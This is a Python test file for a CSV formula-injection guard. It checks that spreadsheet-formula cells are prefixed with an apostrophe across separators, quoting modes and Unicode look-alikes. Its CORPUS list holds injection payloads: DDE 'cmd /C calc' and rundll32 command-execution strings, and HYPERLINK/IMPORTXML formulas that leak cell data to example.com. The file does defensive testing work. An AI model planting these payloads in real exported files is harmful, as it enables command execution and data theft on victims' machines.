"""Tests of cells that no spreadsheet takes for a formula, by a corpus and by readers of every kind."""

import csv
import io
import re
from collections.abc import Iterator

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from babynames_assets.letters.csv_cells import guarded, write_rows

FORMULA = "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b"
SEPARATORS = ",;|\t"
CORPUS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.com/?leak="&A1,"click")',
    '=IMPORTXML(CONCAT("https://example.com?v=",CONCATENATE(A2:E2)),"//a")',
    "=WEBSERVICE(A1)",
    '=DDE("cmd";"/C calc";"x")',
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\x01+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\ufe661+1",
    "\ufe631+1",
    "a;=1+1",
    "a,=1+1",
    "a|=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a\r\n=1+1",
    "a; =1+1",
    "a,\u3000\uff1d1+1",
    '"=1+1',
    '",=1+1',
    '";=1+1',
    '"\n=1+1',
    "'=1+1",
    "',=1+1",
    'x""=1+1',
    "1984,=cmd|' /C calc'!A0,F,1",
    "=" * 50,
    ",=" * 50,
    "==",
    "=-@+",
]
HARMLESS = [
    "",
    "Mary",
    "Zoë",
    "O'Neill",
    "Anne-Marie",
    "a+b=c",
    "mary@example.com",
    "CONFLICT: Contact already exists. Existing ID: 6001",
    '{"firstname": "Mary", "births": "7"}',
    "2026-11-24T16:00:00+00:00",
    "the births are 0, but at least 1 is needed",
    "1984-F-Mary",
    "名前",
    "two\nlines",
    "100 %",
    "a;b,c|d",
    "\u202eyraM",
]
hostile = st.text(st.sampled_from([*FORMULA, *SEPARATORS, *"\r\n\"' \u00a0\u200b\x00ab1!("]), max_size=20)
cells = st.one_of(hostile, st.text(max_size=20), st.sampled_from(CORPUS), st.sampled_from(HARMLESS))


def written(*rows: list[str]) -> str:
    """The file of these rows."""
    out = io.StringIO(newline="")
    write_rows(out, rows)
    return out.getvalue()


def cells_of_every_reader(text: str) -> Iterator[str]:
    """What becomes a cell for readers with this or that separator, whether they know quotes or not."""
    for separator in SEPARATORS:
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator, quoting=quoting):
                yield from row


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet that drops quotes and what has no shape from a cell's beginning would calculate it."""
    return re.match(rf"[\s\x00-\x20\u00ad\u200b-\u200f\u2060\ufeff\"]*[{re.escape(FORMULA)}]", cell) is not None


@pytest.mark.parametrize("text", CORPUS)
def test_no_reader_finds_a_formula_of_the_corpus(text: str) -> None:
    """Whatever its separator, wherever its cells begin."""
    assert guarded(text) != text
    assert not [cell for cell in cells_of_every_reader(written([text], ["x", text], [text, text])) if is_formula(cell)]


def test_the_readers_see_what_is_not_guarded() -> None:
    """Otherwise the tests here could not fail."""
    for text in ("=1+1", "a;=1+1", '"\t=1+1', "a\n=1+1", "\u200b\uff1d1+1"):
        out = io.StringIO(newline="")
        csv.writer(out, quoting=csv.QUOTE_ALL).writerow(["x", text])

        assert any(is_formula(cell) for cell in cells_of_every_reader(out.getvalue())), text


@settings(max_examples=300)
@given(st.lists(st.lists(cells, min_size=1, max_size=3), min_size=1, max_size=3))
def test_no_reader_finds_a_formula_in_anything(rows: list[list[str]]) -> None:
    """Any text of any characters, in any company."""
    assert not [cell for cell in cells_of_every_reader(written(*rows)) if is_formula(cell)]


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_text_stays_as_it_is(text: str) -> None:
    """Names with hyphens, sums inside a text, addresses: an apostrophe would falsify them."""
    assert guarded(text) == text


@given(st.lists(st.lists(cells, min_size=2, max_size=3), min_size=1, max_size=3))
def test_a_file_reads_back_as_it_was_written(rows: list[list[str]]) -> None:
    """Cell by cell, but for the apostrophes: quotes, separators, line ends and other scripts included."""
    back = list(csv.reader(io.StringIO(written(*rows), newline="")))

    assert back == [[guarded(cell) for cell in row] for row in rows]


@given(cells)
def test_nothing_but_apostrophes_is_added(text: str) -> None:
    """No character of the text is lost, moved or changed."""
    rest = iter(guarded(text))

    assert all(one in rest for one in text)
    assert guarded(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("first", ["\t", "\r", "\n"])
def test_a_cell_that_begins_with_a_control_character_gets_its_apostrophe(first: str) -> None:
    """As OWASP asks for, whatever follows."""
    assert guarded(first + "Mary").startswith("'" + first)


def test_a_long_text_of_blanks_takes_no_time(capsys: pytest.CaptureFixture[str]) -> None:
    """A megabyte of blanks, tabs or separators is read once, not once for each of its characters."""
    for text in (" " * 10**6, "\t" * 10**6, ",  " * 10**5, "=," * 10**5):
        assert len(guarded(text)) >= len(text)


def test_the_number_of_rows_is_told() -> None:
    """None, and some."""
    assert write_rows(io.StringIO(), []) == 0
    assert write_rows(io.StringIO(), [["a"], ["b"]]) == 2
